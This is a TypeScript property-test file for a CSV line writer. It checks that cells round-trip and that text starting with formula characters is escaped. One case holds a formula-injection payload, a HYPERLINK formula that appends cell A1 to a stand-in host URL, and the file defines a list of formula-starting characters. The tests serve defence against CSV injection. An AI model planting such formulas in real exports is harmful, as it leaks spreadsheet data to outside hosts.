import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import { type Cell, csvLine, withoutControls } from '../../src-main/base/csv.ts';
import { readCsv } from '../independent/csv.ts';

const FORMULA_BEGINS = ['=', '+', '-', '@', '\t', '\r', '\n', '＝', '＋', '－', '＠'];
/** What a person would take the text for: the apostrophe in front is the spreadsheet's own word for "this is text". */
const unmarked = (text: string): string => (text.startsWith("'") ? text.slice(1) : text);

const cell: fc.Arbitrary<Cell> = fc.oneof(
  fc.string({ unit: 'binary' }),
  fc.string({
    unit: fc.constantFrom(
      ...FORMULA_BEGINS,
      "'",
      '"',
      ',',
      ';',
      '\r\n',
      'a',
      '\u202e',
      'א',
      '\u0000',
      '\u0085',
    ),
  }),
  fc.tuple(fc.constantFrom(...FORMULA_BEGINS, "'"), fc.string()).map((parts) => parts.join('')),
  fc.maxSafeInteger(),
  fc.boolean(),
  fc.constant(null),
);

describe('a line of CSV', () => {
  test('is read back cell by cell, and no text in it begins a formula', () => {
    fc.assert(
      fc.property(fc.array(fc.array(cell, { minLength: 2, maxLength: 6 }), { maxLength: 5 }), (lines) => {
        const read = readCsv(lines.map(csvLine).join(''));
        expect(read.length).toBe(lines.length);
        for (const [at, cells] of lines.entries()) {
          expect(read[at]!.length).toBe(cells.length);
          for (const [index, given] of cells.entries()) {
            const got = read[at]![index]!;
            if (typeof given !== 'string') expect(got).toBe(given === null ? null : String(given));
            else {
              expect(unmarked(got)).toBe(withoutControls(given));
              expect(FORMULA_BEGINS.some((begin) => got.startsWith(begin))).toBe(false);
            }
          }
        }
      }),
      { numRuns: 1000 },
    );
  });
  test.each([
    ['=HYPERLINK("http://x.example?"&A1,"Open")', `"'=HYPERLINK(""http://x.example?""&A1,""Open"")"`],
    ['+1', `"'+1"`],
    ['-1+1', `"'-1+1"`],
    ['@SUM(A1)', `"'@SUM(A1)"`],
    ['\t=1', `"'\t=1"`],
    ['\r=1', `"'\r=1"`],
    ["'quoted", `"''quoted"`],
    ['two\nlines', `"two\nlines"`],
    ['bell \u0007 and nul \u0000', '"bell \ufffd and nul \ufffd"'],
    ['مستشفى', '"مستشفى"'],
    ['', '""'],
  ])('writes %j as it must be', (given, written) => {
    expect(csvLine([given, null])).toBe(`${written},\r\n`);
  });
  test('numbers stay numbers, below zero too', () => {
    expect(csvLine([-5, 0, true, null])).toBe('-5,0,true,\r\n');
  });
});
